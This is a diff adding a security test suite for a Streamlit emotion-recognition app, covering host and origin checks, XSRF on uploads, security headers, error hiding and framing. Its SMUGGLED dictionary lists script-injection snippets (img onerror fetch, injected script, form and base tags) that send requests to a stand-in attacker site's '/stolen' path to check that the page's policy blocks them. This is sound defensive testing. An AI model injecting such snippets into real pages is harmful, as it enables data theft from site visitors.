@@ -1,0 +1,330 @@
+"""The app is closed by default: to other machines, other sites, what is smuggled into a page."""
+
+import http.client
+import re
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from streamlit.proto.BackMsg_pb2 import BackMsg
+from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
+from streamlit.proto.NewSession_pb2 import NewSession
+from websockets.sync.client import connect
+
+from ferapp.media.encoder import Encoder
+from ferapp.ui.live_chart import PLOTLY_ROUTE
+from ferapp.ui.webcam import demo_frame
+from tests.conftest import SAMPLES
+from tests.e2e.conftest import Server, Visit, sync_api
+from tests.e2e.processes import App
+from tests.e2e.test_browser import download
+from tests.e2e.test_live import Live
+from tests.e2e.test_sessions import agree, has_chart, show
+
+pytestmark = pytest.mark.e2e
+
+ELSEWHERE = "http://elsewhere.example"
+UPLOADS = "/_stcore/upload_file"
+HEADERS = (
+    "Content-Security-Policy",
+    "X-Content-Type-Options",
+    "Referrer-Policy",
+    "Permissions-Policy",
+    "Cross-Origin-Opener-Policy",
+    "Cross-Origin-Resource-Policy",
+)
+# A refusal by the policy becomes a line on the console, in frames as well.
+TELL = """
+document.addEventListener('securitypolicyviolation', (event) =>
+  console.error(`violation of ${event.effectiveDirective} by ${event.blockedURI}`));
+"""
+HANDSHAKE = {
+    "Connection": "Upgrade",
+    "Upgrade": "websocket",
+    "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
+    "Sec-WebSocket-Version": "13",
+}
+
+
+def ask(
+    server: Server, path: str, method: str = "GET", body: bytes = b"", **headers: str
+) -> http.client.HTTPResponse:
+    """One request as any program may send it; underscores in names are hyphens."""
+    connection = http.client.HTTPConnection(server.url.removeprefix("http://"), timeout=20)
+    named = {name.replace("_", "-"): value for name, value in headers.items()}
+    connection.request(method, path, body or None, named)
+    answer = connection.getresponse()
+    if answer.status != 101:
+        answer.read()
+    connection.close()
+    return answer
+
+
+@contextmanager
+def connected(server: Server) -> Iterator[NewSession]:
+    """A session as a browser begins it: what the server tells of it."""
+    address = f"{server.url.replace('http', 'ws')}/_stcore/stream"
+    with connect(address, subprotocols=["streamlit"], max_size=None) as stream:
+        begin = BackMsg()
+        begin.rerun_script.query_string = ""
+        stream.send(begin.SerializeToString())
+        told = ForwardMsg()
+        while told.WhichOneof("type") != "new_session":
+            told.ParseFromString(stream.recv(timeout=20))
+        # Only a script that has ended has decided about the visitor.
+        last = ForwardMsg()
+        while last.WhichOneof("type") != "script_finished":
+            last.ParseFromString(stream.recv(timeout=60))
+        yield told.new_session
+
+
+def token(server: Server) -> str:
+    """Against forged requests, as the server gives it to every browser."""
+    cookie = ask(server, "/_stcore/health").headers["Set-Cookie"]
+    return cookie.partition("_streamlit_xsrf=")[2].partition(";")[0]
+
+
+def put_file(server: Server, session: str, xsrf: str | None) -> int:
+    """Upload three bytes; the status of the answer."""
+    body = (
+        b'--x\r\nContent-Disposition: form-data; name="a"; filename="a.jpg"\r\n'
+        b"Content-Type: image/jpeg\r\n\r\nabc\r\n--x--\r\n"
+    )
+    headers = {"Content-Type": "multipart/form-data; boundary=x"}
+    if xsrf:
+        headers |= {"X-Xsrftoken": xsrf, "Cookie": f"_streamlit_xsrf={xsrf}"}
+    return ask(server, f"{UPLOADS}/{session}/file", "PUT", body, **headers).status
+
+
+def test_only_this_machine_is_listened_to(server: Server) -> None:
+    port = int(server.url.rsplit(":", 1)[1])
+    socket.create_connection(("127.0.0.1", port), timeout=5).close()
+    # A server for every address would have this one as well.
+    with pytest.raises(ConnectionRefusedError):
+        socket.create_connection(("127.0.0.2", port), timeout=5)
+
+
+@pytest.mark.parametrize("path", ["/", "/_stcore/health", "/_stcore/host-config", PLOTLY_ROUTE])
+def test_another_name_of_this_machine_is_refused(server: Server, path: str) -> None:
+    assert ask(server, path).status == 200
+    assert ask(server, path, Host="elsewhere.example").status == 400
+
+
+def test_a_stream_for_another_site_is_refused(server: Server) -> None:
+    own = server.url
+    assert ask(server, "/_stcore/stream", Origin=own, **HANDSHAKE).status == 101
+    assert ask(server, "/_stcore/stream", Origin=ELSEWHERE, **HANDSHAKE).status == 403
+    renamed = ask(server, "/_stcore/stream", Host="elsewhere.example", **HANDSHAKE)
+    assert renamed.status in (400, 403)
+
+
+def test_an_upload_needs_a_session_and_its_token(server: Server) -> None:
+    xsrf = token(server)
+    with connected(server) as session:
+        id = session.initialize.session_id
+        assert put_file(server, id, xsrf) == 204
+        assert put_file(server, id, None) == 403
+        assert put_file(server, "nobody", xsrf) == 400
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", "/_stcore/health"),
+        ("OPTIONS", "/_stcore/health"),
+        ("GET", "/_stcore/host-config"),
+        ("OPTIONS", f"{UPLOADS}/a/b"),
+    ],
+)
+def test_no_other_site_may_read_an_answer(server: Server, method: str, path: str) -> None:
+    allowed = ask(server, path, method, Origin=ELSEWHERE).headers["Access-Control-Allow-Origin"]
+    assert allowed not in ("*", ELSEWHERE)
+
+
+def test_a_page_that_fails_tells_the_browser_nothing(visit: Visit, tmp_path: Path) -> None:
+    launcher = Path(__file__).parent / "careless.py"
+    app = App(tmp_path / "log", launcher=launcher, CANARY="canary-4711")
+    try:
+        app.wait_until_ready()
+        page = visit("about:blank")
+        received: list[bytes] = []
+        page.on("websocket", lambda s: s.on("framereceived", lambda m: received.append(m)))
+        page.goto(f"{app.url}/about")
+        page.get_by_test_id("stException").wait_for()
+        told = b"".join(message for message in received if isinstance(message, bytes))
+        assert b"What this app can know" in told
+        for secret in (b"canary-4711", b"LookupError", b"Traceback", b"careless.py"):
+            assert secret not in told
+    finally:
+        app.stop()
+
+
+def test_nothing_is_told_about_the_use(server: Server) -> None:
+    with connected(server) as session:
+        assert not session.config.gather_usage_stats
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    [
+        ("/", 200),
+        ("/live", 200),
+        ("/_stcore/health", 200),
+        ("/_stcore/host-config", 200),
+        ("/component/streamlit_webrtc.component.webrtc_streamer/index.html", 200),
+        (PLOTLY_ROUTE, 200),
+        ("/media/nothing.png", 404),
+    ],
+)
+def test_the_headers_are_on_every_answer(server: Server, path: str, status: int) -> None:
+    answer = ask(server, path)
+    assert answer.status == status
+    assert [name for name in HEADERS if name not in answer.headers] == []
+
+
+def test_the_headers_are_on_a_refusal(server: Server) -> None:
+    answer = ask(server, "/", Host="elsewhere.example")
+    assert [name for name in HEADERS if name not in answer.headers] == []
+
+
+@pytest.fixture
+def watched(visit: Visit) -> Callable[[str], tuple["sync_api.Page", list[str]]]:
+    """Open an address, and keep every error that the console of the page tells."""
+
+    def open_page(url: str) -> tuple["sync_api.Page", list[str]]:
+        page = visit("about:blank")
+        errors: list[str] = []
+        page.add_init_script(TELL)
+        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+        page.on("pageerror", lambda error: errors.append(str(error)))
+        page.goto(url)
+        return page, errors
+
+    return open_page
+
+
+@pytest.fixture
+def clip(tmp_path: Path) -> Path:
+    """Two seconds of a face."""
+    path = tmp_path / "clip.mp4"
+    with Encoder(path, (640, 480)) as encoder:
+        for number in range(30):
+            encoder.add(demo_frame(2 + number / 15), number / 15)
+    return path
+
+
+def test_every_page_works_under_the_policy(fresh_server: Server, watched: Any, clip: Path) -> None:
+    page, errors = watched(fresh_server.url)
+    page.set_default_timeout(60_000)
+    page.locator("input[type=file]").set_input_files(SAMPLES / "astronaut.jpg")
+    page.get_by_text("1 · happiness").wait_for()
+    has_chart(page)
+    assert download(page, "Annotated picture (PNG)").startswith(b"\x89PNG")
+    page.get_by_text("Camera", exact=True).click()
+    page.wait_for_function("() => document.querySelector('video')?.currentTime > 0.5")
+    page.get_by_role("button", name="Take Photo").click()
+    page.get_by_role("button", name="Clear photo").wait_for()
+    page.get_by_text("1 · happiness").wait_for()
+
+    # By the menu: an address of a page makes Streamlit ask for files that are not there.
+    page.get_by_role("link", name="Live").click()
+    live = Live(page)
+    live.start()
+    page.get_by_text("1 happiness").first.wait_for()
+    has_chart(page)
+    page.get_by_role("button", name="Record", exact=True).click()
+    agree(page)
+    page.get_by_text(re.compile(r"Recording 00:0[2-9]")).wait_for()
+    page.get_by_role("button", name="Stop recording").click()
+    live.stop()
+    # What the component still says of its end would bring this page back.
+    page.wait_for_timeout(2000)
+
+    page.get_by_role("link", name="Video").click()
+    page.get_by_role("heading", name="Video", exact=True).wait_for()
+    page.locator("input[type=file]").set_input_files(clip)
+    page.get_by_role("button", name="Analyse").click()
+    show(page, "Annotated copy")
+    page.get_by_role("button", name="Make the copy").click()
+    page.locator("video").wait_for()
+    page.locator("video").evaluate("v => { v.muted = true; return v.play() }")
+    page.wait_for_function("() => document.querySelector('video').currentTime > 0.2")
+    assert download(page, "Download the copy")[4:8] == b"ftyp"
+
+    page.get_by_role("link", name="Dashboard").click()
+    for view in ("Over time", "Summary", "Compare", "Replay"):
+        show(page, view)
+        has_chart(page)
+    show(page, "Files")
+    assert download(page, "Report (HTML)")
+    page.get_by_role("link", name="About").click()
+    page.get_by_role("heading", name="About").wait_for()
+    page.wait_for_timeout(1000)
+    assert errors == []
+
+
+@pytest.fixture
+def another_site(server: Server) -> Iterator[tuple[str, list[str]]]:
+    """A site of somebody else, and the paths that it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(f"<iframe src='{server.url}'></iframe>".encode())
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    site = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=site.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{site.server_port}", asked
+    site.shutdown()
+    site.server_close()
+
+
+SMUGGLED = {
+    "img-src": "const e = document.createElement('img'); e.src = url; document.body.append(e);",
+    "script-src-elem": "const e = document.createElement('script'); e.src = url;"
+    " document.body.append(e);",
+    "script-src-attr": "document.body.insertAdjacentHTML('beforeend',"
+    " `<img src='data:,' onerror='fetch(\"${url}\")'>`);",
+    "style-src-elem": "const e = document.createElement('link'); e.rel = 'stylesheet';"
+    " e.href = url; document.head.append(e);",
+    "connect-src": "fetch(url).catch(() => null);",
+    "frame-src": "const e = document.createElement('iframe'); e.src = url;"
+    " document.body.append(e);",
+    "form-action": "const e = document.createElement('form'); e.action = url;"
+    " document.body.append(e); e.submit();",
+    "base-uri": "const e = document.createElement('base'); e.href = url; document.head.append(e);",
+}
+
+
+def test_what_is_smuggled_into_a_page_reaches_nobody(
+    server: Server, watched: Any, another_site: tuple[str, list[str]]
+) -> None:
+    url, asked = another_site
+    page, errors = watched(server.url)
+    page.get_by_text("Upload a picture, take a photo").wait_for()
+    for smuggled in SMUGGLED.values():
+        page.evaluate(f"(url) => {{ {smuggled} }}", f"{url}/stolen")
+    page.wait_for_timeout(1000)
+    violated = {error.split()[2] for error in errors if error.startswith("violation of")}
+    assert violated == set(SMUGGLED)
+    assert asked == []
+
+
+def test_no_other_site_may_frame_the_app(watched: Any, another_site: tuple[str, list[str]]) -> None:
+    page, errors = watched(another_site[0])
+    page.wait_for_timeout(1000)
+    assert any("frame-ancestors" in error for error in errors), errors
+    assert "Pictures" not in page.frames[1].content()
